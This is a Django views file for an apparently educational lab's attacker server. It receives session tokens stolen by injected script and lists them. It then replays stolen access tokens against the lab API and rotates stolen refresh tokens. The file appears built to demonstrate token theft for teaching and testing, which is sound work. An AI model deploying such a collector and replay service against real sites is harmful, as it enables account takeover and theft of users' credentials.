"""The collector: it receives what injected script stole, shows it, and replays it.

`collect` answers any site's top-level navigation or form post (that is its job, so it is
CSRF-exempt); `replay` is the attacker's *server* using a stolen token against the API.
"""

import json

from django.conf import settings
from django.http import HttpResponseBadRequest, JsonResponse
from django.shortcuts import render
from django.views.decorators.csrf import csrf_exempt
from django.views.decorators.http import require_GET, require_http_methods, require_POST

from infra.attacker_site.collector import COLLECTOR
from infra.attacker_site.lab_client import LabClient

SITE = settings.SITE
NAVIGATION = "top-level navigation"
FORM_POST = "form post"


@csrf_exempt
@require_http_methods(["GET", "POST"])
def collect(request):
    data = request.GET if request.method == "GET" else request.POST
    loot = COLLECTOR.add(data.dict(), channel=NAVIGATION if request.method == "GET" else FORM_POST)
    fields = sorted([*loot.tokens, *loot.facts])
    response = render(request, "collected.html", {"loot": loot, "fields": fields})
    # The stolen values sit in this URL: keep them out of any Referer it would send.
    response["Referrer-Policy"] = "no-referrer"
    return response


@require_GET
def loot(request):
    return JsonResponse({"entries": COLLECTOR.entries()})


@require_POST
def replay(request):
    """{loot, action}: "use-access" (the API's /me and notes, with the stolen access token) or
    "refresh" (rotate the stolen refresh token; the new pair is kept as a new entry)."""
    try:
        asked = json.loads(request.body)
        entry = COLLECTOR.get(int(asked["loot"]))
        action = asked["action"]
    except (ValueError, KeyError, TypeError):
        return HttpResponseBadRequest("Expected JSON: loot (an entry id) and action.")
    client = LabClient(SITE)
    if entry is None or action not in ("use-access", "refresh"):
        return HttpResponseBadRequest("No such entry or action.")
    token = entry.tokens.get("access" if action == "use-access" else "refresh")
    if not token:
        return HttpResponseBadRequest(f"Entry {entry.id} holds no token for {action}.")
    if action == "use-access":
        result = client.with_access(token)
        event = f"use-access: /me {result['me_status']} ({result['username'] or result['refusal']})"
    else:
        result = client.refresh(token)
        pair = result.pop("pair")
        event = f"refresh: {result['status']} {result['code'] or ''}".strip()
        if pair:
            minted = COLLECTOR.add(
                {**pair, "source": f"refreshed by the attacker from entry #{entry.id}"},
                channel="attacker's own refresh",
            )
            result["new_entry"] = minted.id
    COLLECTOR.note(entry, event)
    return JsonResponse({"loot": entry.id, "action": action, **result})
